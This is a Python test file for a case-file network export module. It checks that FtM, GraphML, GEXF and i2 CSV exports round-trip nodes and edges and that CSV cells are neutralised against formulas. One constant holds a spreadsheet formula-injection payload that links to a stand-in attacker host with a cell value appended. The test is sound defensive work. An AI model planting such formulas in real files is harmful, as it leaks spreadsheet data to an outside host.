"""Exports of the network for the case file: each one is read back with the format's own reader and must hold the
same nodes and edges, with kind, handling code and provenance, and CSV cells must be spreadsheet-safe."""

from __future__ import annotations

import csv
import io
import json
from collections import Counter
from pathlib import Path

import igraph as ig
import networkx as nx
from followthemoney import model
from followthemoney.proxy import EntityProxy

from portguard.network import exports
from portguard.network import graph as ng
from portguard.network.graph import Node

from .test_graph import scene

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def with_formula_label() -> ng.Graph:
    """The scene with a trader-supplied company name that is a spreadsheet formula."""
    g = scene()
    nodes = [Node(**{**_fields(n), "label": FORMULA}) if n.id == "U" else n for n in g.nodes]
    return ng.build(nodes=nodes, edges=g.edges)


def _fields(n: Node) -> dict[str, object]:
    return {f: getattr(n, f) for f in ("id", "kind", "label", "owner_org_id", "handling", "attrs")}


def edge_keys(g: ng.Graph) -> Counter[tuple[str, str, str]]:
    return Counter((e.source, e.target, e.kind) for e in g.edges)


def test_ftm_round_trip(tmp_path: Path) -> None:
    g = scene()
    target = tmp_path / "network.ftm.json"
    exports.to_ftm(graph=g, path=target)
    lines = target.read_bytes().splitlines()
    assert exports.to_ftm(graph=g) == target.read_bytes()
    proxies = [model.get_proxy(json.loads(line)) for line in lines]
    assert all(isinstance(p, EntityProxy) for p in proxies)
    assert EntityProxy.from_dict(json.loads(lines[0])).id == proxies[0].id
    by_id = {p.id: p for p in proxies}
    nodes = [p for p in proxies if "id" in p.context["portguard"]]  # a seizure is an FtM Event, itself an Interval
    links = [p for p in proxies if "id" not in p.context["portguard"]]
    assert all(p.schema.is_a("Interval") for p in links)
    assert sorted(p.context["portguard"]["id"] for p in nodes) == sorted(n.id for n in g.nodes)
    assert len(links) == len(g.edges)

    node_of = {exports.ftm_id(n.id): n.id for n in g.nodes}
    seen: Counter[tuple[str, str, str]] = Counter()
    for link in links:
        meta = link.context["portguard"]
        ends = [v for prop in link.schema.properties.values() if prop.type.name == "entity" for v in link.get(prop)]
        assert {node_of[v] for v in ends} == {meta["source"], meta["target"]}
        seen[(meta["source"], meta["target"], meta["kind"])] += 1
    assert seen == edge_keys(g)

    schema = {p.context["portguard"]["id"]: p.schema.name for p in nodes}
    assert schema["A"] == "Company" and schema["IBAN"] == "BankAccount" and schema["X"] == "Address"
    assert schema["S"] == "Event" and schema["D1"] == "Document" and schema["P"] == "UserAccount"
    assert by_id[exports.ftm_id("IBAN")].get("iban") == ["NL91ABNA0417164300"]
    kinds = {link.context["portguard"]["kind"]: link for link in links}
    assert kinds["holds_account"].schema.name == "Ownership"
    assert kinds["holds_account"].context["portguard"]["handling"] == "RED"
    assert kinds["party_to"].schema.name == "Documentation"
    assert kinds["uses_phone"].schema.name == "UnknownLink" and kinds["uses_phone"].get("role") == ["uses_phone"]
    assert kinds["party_to"].get("recordId") == ["D1"] and kinds["party_to"].get("publisher") == ["ICS2"]
    # FtM tools match shared phones by property value: both front companies carry it
    assert by_id[exports.ftm_id("A")].get("phone") == by_id[exports.ftm_id("B")].get("phone") != []


def test_graphml_round_trip(tmp_path: Path) -> None:
    g = scene()
    target = tmp_path / "network.graphml"
    exports.to_graphml(graph=g, path=target)
    back = ig.Graph.Read_GraphML(str(target))
    assert back.is_directed()
    assert back.vs["name"] == [n.id for n in g.nodes]
    assert back.vs["handling"] == [n.handling for n in g.nodes]
    assert back.vs["label"] == [n.label for n in g.nodes]
    assert json.loads(back.vs[g.index["S"]]["attrs"]) == dict(g.node("S").attrs)
    got = Counter((back.vs[e.source]["name"], back.vs[e.target]["name"], e["kind"]) for e in back.es)
    assert got == edge_keys(g)
    red = [e for e in back.es if e["kind"] == "holds_account"]
    assert red[0]["handling"] == "RED" and red[0]["source_system"] == "police-intel"
    assert exports.to_graphml(graph=g) == target.read_bytes()


def test_gexf_round_trip(tmp_path: Path) -> None:
    g = scene()
    target = tmp_path / "network.gexf"
    exports.to_gexf(graph=g, path=target)
    back = nx.read_gexf(target)
    assert back.is_directed()  # networkx reads a multigraph back as such only when it has parallel edges
    assert set(back.nodes) == {n.id for n in g.nodes}
    assert all(back.nodes[n.id]["label"] == n.label and back.nodes[n.id]["kind"] == n.kind for n in g.nodes)
    got = Counter((u, v, d["kind"]) for u, v, d in back.edges(data=True))
    assert got == edge_keys(g)
    assert {d["source_declaration_id"] for _, _, d in back.edges(data=True)} == {"D1"}
    assert exports.to_gexf(graph=g).startswith(b"<?xml")


def test_i2_csv_round_trip_and_formulas_neutralised(tmp_path: Path) -> None:
    g = with_formula_label()
    entities_path, links_path = exports.write_i2_csv(graph=g, directory=tmp_path / "i2")
    entities = list(csv.DictReader(io.StringIO(entities_path.read_text(encoding="utf-8"), newline="")))
    links = list(csv.DictReader(io.StringIO(links_path.read_text(encoding="utf-8"), newline="")))
    assert list(entities[0]) == list(exports.I2_ENTITY_HEADER)
    assert {"id", "from", "to", "type", "date", "source"} <= set(links[0])
    assert [r["id"] for r in entities] == [n.id for n in g.nodes]
    assert Counter((r["from"], r["to"], r["type"]) for r in links) == edge_keys(g)
    by_id = {r["id"]: r for r in entities}
    assert by_id["U"]["label"] == "'" + FORMULA  # shown as text, never evaluated
    assert by_id["A"]["label"] == "Alfa Fruit BV" and by_id["A"]["type"] == "Organisation"
    assert by_id["P"]["label"] == "'+31 10 123 4567"  # a phone number starting with + is a formula start too
    assert by_id["IBAN"]["handling"] == "RED" and by_id["S"]["date"]
    red = next(r for r in links if r["type"] == "holds_account")
    assert red["source"] == "police-intel" and red["source_reference"] == "D1" and red["handling"] == "RED"
    assert exports.i2_csv(graph=g) == (entities_path.read_bytes(), links_path.read_bytes())
    assert g.node("U").label == FORMULA  # the stored value is never changed
